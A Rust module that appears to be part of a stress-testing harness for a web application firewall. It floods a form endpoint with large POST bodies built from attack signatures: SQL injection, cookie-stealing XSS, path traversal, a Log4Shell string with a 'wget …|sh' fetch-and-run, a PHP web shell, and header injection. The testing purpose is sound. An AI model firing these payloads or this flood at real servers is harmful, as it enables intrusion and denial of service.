//! Hostile bodies: forms that make as many rules work as they can, sent as fast as the node takes them.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::Attack;

/// Connections at once, each from an address of its own.
pub(super) const CONNECTIONS: u32 = 8;
/// Requests a second, all together, at the most.
pub(super) const REQUESTS_S: u32 = 100;
/// Length of a body: within what rules look at.
pub(super) const BODY_BYTES: usize = 110 << 10;

/// What a field is made of: each has words that rules' prefilters know, and little that one of them would stop at.
const PIECES: [&str; 8] = [
    "select+concat(char(97),0x3a)+from+information_schema.tables+where+1=1--+",
    "%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E%3Csvg/onload%3D1%3E",
    "..%2F..%2F..%2Fetc%2Fpasswd%00.jpg%5C..%5Cwindows%5Cwin.ini",
    "%24%7Bjndi%3Aldap%3A%2F%2Fa%7D;wget+http%3A%2F%2F10.0.0.1%2Fx|sh+-c+id%60uname%60",
    "%3C%3Fphp+system(%24_GET%5B0%5D)%3B+eval(base64_decode(0))+%3F%3E",
    "java.lang.Runtime%23getRuntime().exec(__proto__.constructor)",
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D%0d%0aSet-Cookie%3A+a%3Db%0d%0aLocation%3A",
    "%26%23x6a%3B%26%23x61%3Bvascript%3Aexpression(%5Cu0061%5Cx62%2F**%2F)",
];

/// One connection after the other, each until the node ends it. What is answered is thrown away, and not waited for: who attacks
/// does not care.
pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
    let request = request();
    loop {
        let stream = attack.dial(number, attack.orders.target.plain).await;
        let (mut reader, mut writer) = stream.into_split();
        let read = async {
            let mut heard = vec![0; 16 << 10];
            while matches!(reader.read(&mut heard).await, Ok(1..)) {}
        };
        let write = async {
            loop {
                attack.bodies.turn(1).await;
                attack.requests.fetch_add(1, Ordering::Relaxed);
                if writer.write_all(&request).await.is_err() {
                    return;
                }
            }
        };
        tokio::select! {
            () = read => {}
            () = write => {}
        }
        attack.ended();
    }
}

/// A form that is read to its end.
fn request() -> Vec<u8> {
    let mut body = String::with_capacity(BODY_BYTES + 128);
    let mut number = 0;
    while body.len() < BODY_BYTES {
        let [first, second] = [0, 3].map(|beside| PIECES[(number + beside) % PIECES.len()]);
        body.push_str(&format!("f{number}={first}{second}&"));
        number += 1;
    }
    body.truncate(BODY_BYTES);
    let head = format!(
        "POST /o/form HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.into_bytes(), body.into_bytes()].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_is_as_long_as_it_says_and_within_what_rules_look_at() {
        let request = request();
        let head = request
            .windows(4)
            .position(|end| end == b"\r\n\r\n")
            .unwrap()
            + 4;
        let (head, body) = request.split_at(head);
        assert_eq!(body.len(), BODY_BYTES);
        assert!(
            String::from_utf8_lossy(head).contains(&format!("Content-Length: {BODY_BYTES}\r\n"))
        );
        let fields = body.split(|byte| *byte == b'&').count();
        assert!(fields < 1000, "{fields}: more are not looked at");
    }
}
